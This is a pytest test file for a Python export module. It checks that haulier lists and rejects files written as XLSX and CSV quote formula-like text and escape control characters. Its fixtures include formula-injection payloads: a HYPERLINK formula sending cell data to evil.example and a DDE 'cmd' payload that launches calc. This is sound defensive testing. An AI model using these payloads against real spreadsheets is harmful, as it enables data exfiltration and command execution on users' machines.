"""Exports show user text as text: no live formulas, no control character breaks XLSX."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cdw.enforcement.lists import ListKind, to_csv, to_xlsx
from cdw.exports import safe_cell
from cdw.tracking.ingest import write_rejects
from cdw.tracking.io import Reject

HOSTILE = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"点击")', '\'=HYPERLINK("http://evil.example/?x="&A1,"点击")'),
    ("+86 cmd|' /C calc'!A0", "'+86 cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1,2)", "'@SUM(1,2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("＝1+1", "'＝1+1"),
    ("运输\x07公司\x00", "运输\\x07公司\\x00"),
    ("\x01=1", "\\x01=1"),
    ("广州市某运输有限公司", "广州市某运输有限公司"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "shown"), HOSTILE)
def test_safe_cell_quotes_formulas_and_escapes_control_characters(text, shown):
    assert safe_cell(text) == shown


@pytest.mark.parametrize("value", [None, 3, -2.5, 0])
def test_safe_cell_keeps_numbers(value):
    assert safe_cell(value) == value


def _rows(name: str) -> list[dict]:
    return [
        {"rank": 1, "key": "91440117MA0000001X", "name": name, "violations": 2,
         "by_code": {"SPEEDING": 2}, "last_violation": "2026-03-01T08:00:00+00:00",
         "credit_score": 90, "status": "active"},
    ]  # fmt: skip


@pytest.mark.parametrize(("text", "shown"), HOSTILE)
def test_xlsx_export_holds_hostile_names_as_text(text, shown):
    book = load_workbook(io.BytesIO(to_xlsx(ListKind.hauliers, _rows(text))))
    cell = book.active.cell(row=2, column=3)
    # XML reads a carriage return back as a line feed.
    assert cell.data_type == "s" and cell.value == shown.replace("\r", "\n")


@pytest.mark.parametrize(("text", "shown"), HOSTILE)
def test_csv_export_holds_hostile_names_as_text(text, shown):
    rows = list(csv.reader(io.StringIO(to_csv(ListKind.hauliers, _rows(text)).decode("utf-8-sig"))))
    assert rows[1][2] == shown


def test_rejects_file_quotes_raw_rows(tmp_path: Path):
    path = tmp_path / "x.rejects.csv"
    write_rejects(path, [Reject("plate", "车牌号无效", "invalid plate", line=2, raw="=1+1,a")])
    rows = list(csv.reader(path.open(encoding="utf-8-sig")))
    assert rows[1] == ["2", "plate", "车牌号无效", "invalid plate", "'=1+1,a"]
